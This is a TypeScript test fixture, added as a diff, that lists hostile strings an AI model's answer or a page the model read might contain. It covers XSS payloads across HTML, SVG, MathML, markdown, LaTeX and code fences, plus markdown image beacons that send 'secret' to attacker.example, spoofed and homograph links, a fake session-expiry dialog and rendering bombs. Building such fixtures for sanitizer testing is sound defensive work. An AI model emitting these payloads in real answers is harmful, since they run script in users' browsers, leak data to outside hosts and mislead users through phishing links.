@@ -1,0 +1,121 @@
+/** What an answer may hold when a model, or a page that a model read, means harm. Written for this suite; no two test the same thing. */
+
+const SEEN = "//attacker.example/seen";
+
+const HTML: readonly string[] = [
+  "<script>alert(1)</script>",
+  `<script src=https:${SEEN}></script>`,
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  `<img src=x onerror=alert(1)>`,
+  `<img src="https:${SEEN}?q=secret" width=1 height=1>`,
+  `<IMG SRC=java&#115;cript:alert(1)>`,
+  `<picture><source srcset="https:${SEEN} 1x"><img></picture>`,
+  `<svg onload=alert(1)><circle r=1></svg>`,
+  `<svg><script href="https:${SEEN}"/></svg>`,
+  `<svg><image href="https:${SEEN}"/><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
+  `<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
+  `<math href="javascript:alert(1)"><maction actiontype="statusline#https:${SEEN}">x</maction></math>`,
+  `<iframe src=https:${SEEN}></iframe>`,
+  `<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>`,
+  `<object data=https:${SEEN}></object><embed src=https:${SEEN}>`,
+  `<link rel=stylesheet href=https:${SEEN}><link rel=prefetch href=https:${SEEN}>`,
+  `<style>@import "https:${SEEN}"; * { background: url(https:${SEEN}) }</style>`,
+  `<p style="background:url(https:${SEEN});position:fixed;inset:0">x</p>`,
+  `<form action=https:${SEEN}><input name=password><button formaction=javascript:alert(1)>ok</button></form>`,
+  `<base href=https:${SEEN}><meta http-equiv=refresh content="0;url=https:${SEEN}">`,
+  `<video poster=https:${SEEN}><source src=https:${SEEN}></video><audio src=https:${SEEN} autoplay>`,
+  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
+  `<body onload=alert(1)><input autofocus onfocus=alert(1)><marquee onstart=alert(1)>`,
+  `<a href="javascript:alert(1)">x</a><a href="https://x.example" ping="https:${SEEN}">y</a>`,
+  `<template shadowrootmode=open><script>alert(1)</script></template><slot name=x></slot>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
+  `<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>`,
+  `<!--<img src="--><img src=x onerror=alert(1)>-->`,
+  `<![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><!DOCTYPE x>`,
+  `<div id=root class="_answer_ modal"><dialog open>Votre session a expiré</dialog></div>`,
+  `<portal src=https:${SEEN}></portal><fencedframe></fencedframe><x-element onclick=alert(1)>x</x-element>`,
+];
+
+const LINKS: readonly string[] = [
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](&#106;avascript:alert(1))",
+  "[x](javascript&colon;alert(1))",
+  "[x](%6Aavascript:alert(1))",
+  "[x](\u0001javascript:alert(1))",
+  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:https://x.example/1) [x](filesystem:x)",
+  "[x](view-source:https://x.example) [x](intent://x#Intent;end) [x](ms-word:ofe|u|https://x.example)",
+  "[x](/api/sessions/current) [x](//attacker.example) [x](#/install?secret=1) [x](?a=b) [x](..)",
+  "[https://www.cnrs.fr](https://attacker.example/?q=secret)",
+  "[www.cnrs.fr](https://www.cnrs.fr@attacker.example/)",
+  "[cnrs](https://www.сnrs.fr/)",
+  '[x](https://x.example "\\" onmouseover=alert(1) x=\\"")',
+  '[x](https://x.example/" onclick="alert(1))',
+  '<javascript:alert(1)> <https://x.example/"onclick=alert(1)> <data:text/html,x>',
+  "https://x.example/<script>alert(1)</script> http://x.example/'onclick='alert(1)",
+  "[x](mailto:a@x.example?body=secret&bcc=b@x.example) [x](mailto:) [x](mailto:a@b,c@d)",
+  "[a]: javascript:alert(1)\n\n[a] [x][a]",
+  `[![x](https:${SEEN})](javascript:alert(1))`,
+  "[\u202Ern.srnc//:sptth](https://attacker.example)",
+  "[<img src=x onerror=alert(1)>](https://x.example) [**`<b onclick=alert(1)>`**](https://x.example)",
+];
+
+const PICTURES: readonly string[] = [
+  `![x](https:${SEEN}?q=secret)`,
+  `![x](${SEEN})`,
+  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+  '![x"onerror="alert(1)](https://x.example/a.png"onerror="alert(1))',
+  `![secret][i]\n\n[i]: https:${SEEN}?q=secret`,
+  `![x](https:${SEEN} "title" onload=alert(1))`,
+  `| ![x](https:${SEEN}) |\n|---|\n| ![y](https:${SEEN}) |`,
+  `![a ![b](https:${SEEN}) c](https:${SEEN})`,
+];
+
+const FORMULAS: readonly string[] = [
+  "$\\href{javascript:alert(1)}{x}$ et $\\url{javascript:alert(1)}$",
+  `$\\includegraphics[height=1em]{https:${SEEN}}$`,
+  "$\\htmlClass{modal}{x}\\htmlId{root}{x}\\htmlStyle{position:fixed}{x}\\htmlData{a=b}{x}$",
+  "$$\\text{<img src=x onerror=alert(1)>} + \\unicode{x3c}script>$$",
+  "\\(\\color{red;background:url(https://x.example)}{x}\\)",
+  "\\[\\rule{1000em}{1000em}\\hspace{-1000em}\\kern-1000em x\\]",
+  "$$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c$$",
+  "$$\\newcommand{\\x}{\\x\\x}\\x$$ $$\\let\\y\\includegraphics\\y{a}$$",
+  `$${"{".repeat(400)}x${"}".repeat(400)}$`,
+  `$$${"\\sqrt{".repeat(300)}x${"}".repeat(300)}$$`,
+  "$\\@ifnextchar\\relax\\csname href\\endcsname{javascript:alert(1)}{x}$",
+  '$"><img src=x onerror=alert(1)>$ $`<script>`$',
+];
+
+const CODE: readonly string[] = [
+  "```html\n<script>alert(1)</script>\n```",
+  '```"><img src=x onerror=alert(1)>\ncode\n```',
+  "```js onclick=alert(1)\ncode\n```",
+  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
+  "```svg\n<svg onload=alert(1)>\n```",
+  "```constructor\nx\n```\n```__proto__\nx\n```\n```toString\nx\n```",
+  "`<img src=x onerror=alert(1)>` ``<script>``",
+  "    <script>alert(1)</script>",
+];
+
+const MIXED: readonly string[] = [
+  "**<img src=x onerror=alert(1)>** *<svg/onload=alert(1)>* ~~<iframe>~~ # <script>",
+  "# <img src=x onerror=alert(1)>\n\n> <iframe src=x>\n\n- <script>\n  - <style>\n\n1. <form>",
+  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | `<svg onload=alert(1)>` |",
+  "[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
+  '[^"><img src=x onerror=alert(1)>]\n\n[^"onload=alert(1)]: x',
+  "- [x] <img src=x onerror=alert(1)>\n- [ ] ![x](https://attacker.example)",
+  "&lt;img src=x onerror=alert(1)&gt; &#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
+  "\u0000<script>\u0000alert(1)</script> <\u200Bscript> ＜script＞ <ſcript>",
+  `${"> ".repeat(80)}<img src=x onerror=alert(1)>`,
+  `${"- ".repeat(80)}<script>alert(1)</script>`,
+  "\\<img src=x onerror=alert(1)\\> \\[<svg onload=alert(1)>\\] \\(<script>\\)",
+  `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= 1 %>`,
+  "<https://x.example> <a@x.example> www.x.example x@x.example",
+  ":::html\n<script>alert(1)</script>\n:::\n\n{.class #root onclick=alert(1)}\n\n---\ntitle: <script>\n---",
+];
+
+export const HOSTILE: readonly string[] = [...HTML, ...LINKS, ...PICTURES, ...FORMULAS, ...CODE, ...MIXED];
